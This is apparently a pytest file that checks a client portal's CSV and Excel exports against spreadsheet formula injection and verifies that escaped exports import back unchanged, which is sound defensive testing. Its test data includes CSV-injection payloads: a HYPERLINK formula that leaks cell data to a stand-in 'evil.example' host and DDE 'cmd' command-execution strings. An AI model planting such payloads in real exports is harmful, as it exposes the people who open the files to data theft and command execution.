"""U5: exported cells run no formula, and an import of the export restores the same data."""

import csv
import io
import zipfile

import openpyxl
import pytest

from portal.clients.models import Client, CustomField
from portal.ui.formula_escaping import FORMULA_PREFIXES, escape_formula, unescape_formula
from tenants.context import use_business
from tests.factories import ClientFactory

EXPORT = "/console/acme/clients/export/"
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\tTab",
    "\rReturn",
    "'=1+1",
    "''=1",
    "'plain",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    'Quote " and, comma',
    "Zeile\nzwei",
    "Otto;=cmd|' /C calc'!A0",
    "Otto;'=1+1",
    "Otto\t-1+1;@SUM(1)",
    "Ána Krüger",
]


@pytest.fixture
def clients_with_formulas(acme):
    """One client for each evil name, the same text in a field of the business's own and in a tag."""
    with use_business(acme):
        field = CustomField.objects.create(name="=Field", kind="text")
        for number, text in enumerate(FORMULAS):
            client = ClientFactory(name=text, email=f"c{number}@example.com", mobile=f"+49151123456{number:02}")
            Client.objects.filter(pk=client.pk).update(custom={str(field.pk): text})


def export_csv(staff_client, kind):
    answer = staff_client("manager").post(EXPORT, {"everyone": "yes", "format": kind})
    assert answer.headers["Content-Disposition"].startswith("attachment")
    return b"".join(answer.streaming_content)


@pytest.mark.usefixtures("clients_with_formulas")
def test_no_csv_cell_begins_like_a_formula(staff_client):
    rows = list(csv.reader(io.StringIO(export_csv(staff_client, "csv").decode("utf-8-sig"), newline="")))
    assert len(rows) == len(FORMULAS) + 1
    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


@pytest.mark.usefixtures("clients_with_formulas")
def test_an_exported_csv_imports_unchanged(staff_client):
    rows = list(csv.reader(io.StringIO(export_csv(staff_client, "csv").decode("utf-8-sig"), newline="")))
    head, *body = [[unescape_formula(cell) for cell in row] for row in rows]
    assert head[-1] == "=Field"
    assert sorted(row[0] for row in body) == sorted(FORMULAS)
    assert all(row[0] == row[-1] for row in body)
    assert all(row[4].startswith("+49") for row in body)


@pytest.mark.usefixtures("clients_with_formulas")
def test_a_workbook_holds_text_and_no_formula(staff_client):
    content = export_csv(staff_client, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {row[0].value for row in sheet.iter_rows(min_row=2)} >= {"=1+1", "@SUM(1)", "Ána Krüger"}
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
        assert not [name for name in parts.namelist() if "external" in name.lower()]


@pytest.mark.usefixtures("clients_with_formulas")
def test_an_exported_workbook_imports_unchanged(staff_client):
    sheet = openpyxl.load_workbook(io.BytesIO(export_csv(staff_client, "xlsx"))).active
    # A carriage return can't stand in XML; Excel and we write it so, and openpyxl leaves it so.
    names = [unescape_formula(row[0].value.replace("_x000D_", "\r")) for row in sheet.iter_rows(min_row=2)]
    assert sorted(names) == sorted(FORMULAS)


@pytest.mark.parametrize("text", FORMULAS)
def test_escaped_cells_differ_from_cells_that_need_no_escape(text):
    assert unescape_formula(escape_formula(text)) == text
    assert not escape_formula(text).startswith(tuple(sign for sign in FORMULA_PREFIXES if sign != "'"))


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.usefixtures("clients_with_formulas")
def test_a_csv_is_inert_with_any_separator(staff_client, separator):
    text = export_csv(staff_client, "csv").decode("utf-8-sig")

    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_a_role_without_export_permission_gets_no_file_and_no_button(staff_client):
    for role in ("staff", "read-only"):
        browser = staff_client(role)
        assert browser.post(EXPORT, {"everyone": "yes"}).status_code == 403
        assert "export/" not in browser.get("/console/acme/clients/").content.decode()
